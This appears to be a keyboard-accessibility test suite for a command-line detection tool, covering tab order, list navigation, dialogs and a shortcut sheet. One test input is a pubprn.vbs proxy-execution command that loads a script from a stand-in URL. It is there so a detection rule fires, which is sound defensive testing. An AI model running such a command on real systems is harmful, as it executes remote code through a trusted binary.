// Everything can be done without a pointer.
import assert from 'node:assert/strict';
import { journey } from './journey.mjs';
import { events, headline } from './states.mjs';

const focused = (page) =>
  page.evaluate(() => {
    const outer = document.activeElement;
    const element = outer.shadowRoot?.activeElement ?? outer;
    return element.getAttribute('aria-label') ?? element.textContent.trim();
  });

/** Presses Tab until what is focused is called this. */
async function tabTo(page, name) {
  for (let presses = 0; presses < 60; presses++) {
    await page.keyboard.press('Tab');
    if (name.test(await focused(page))) return;
  }
  assert.fail(`Tab never reaches ${name}; it is on ${await focused(page)}`);
}

journey('a walk by keyboard: text, list, detail, rules', async (page) => {
  await tabTo(page, /^Events: command lines/);
  await page.keyboard.insertText('ipconfig\ncscript C:\\x\\pubprn.vbs a script:http://b\nC:\\Windows\\notepad.exe x.txt');
  await headline(page, '1 of 3 events matches');

  await tabTo(page, /^Events\. Enter reads the detail/);
  const active = () => events(page).evaluate((list) => document.getElementById(list.getAttribute('aria-activedescendant')).innerText);
  assert.match(await active(), /pubprn/);
  await page.keyboard.press('Home');
  assert.match(await active(), /ipconfig/);
  await page.keyboard.press('End');
  assert.match(await active(), /notepad/);
  await page.keyboard.press('ArrowUp');
  assert.match(await active(), /pubprn/);
  await page.getByRole('heading', { name: 'Line 2' }).waitFor();
  await page.keyboard.press('Enter');
  assert.equal(await focused(page), 'Line 2');

  await tabTo(page, /^Pubprn\.vbs Proxy Execution$/);
  await page.keyboard.press('Enter');
  await page.getByRole('button', { name: 'Pubprn.vbs Proxy Execution', expanded: false }).waitFor();
  await page.keyboard.press('Enter');
  await tabTo(page, /^Open the rule$/);
  await page.keyboard.press('Enter');
  await page.getByRole('region', { name: 'Text of the rule' }).waitFor();
});

journey('the dialog keeps the keyboard and gives it back', async (page) => {
  await tabTo(page, /^About$/);
  await page.keyboard.press('Enter');
  await page.getByRole('dialog', { name: 'About Cutout' }).waitFor();
  await page.keyboard.press('Escape');
  await page.getByRole('dialog').waitFor({ state: 'detached' });
  assert.equal(await focused(page), 'About');
});

journey('“?” shows the keys, but for where one types and where it is switched off', async (page) => {
  const sheet = page.getByRole('dialog', { name: 'Keyboard' });
  await page.getByLabel('Events: command lines or log records').focus();
  await page.keyboard.type('?');
  assert.equal(await sheet.count(), 0);
  await page.getByRole('link', { name: 'Guide', exact: true }).focus();
  await page.keyboard.press('?');
  await sheet.waitFor();
  await sheet.getByLabel('“?” opens this sheet').uncheck();
  await page.keyboard.press('Escape');
  await sheet.waitFor({ state: 'detached' });
  await page.getByRole('link', { name: 'Guide', exact: true }).focus();
  await page.keyboard.press('?');
  await page.getByRole('button', { name: 'About' }).click();
  await page.getByRole('button', { name: 'Keys' }).click();
  await sheet.waitFor();
});
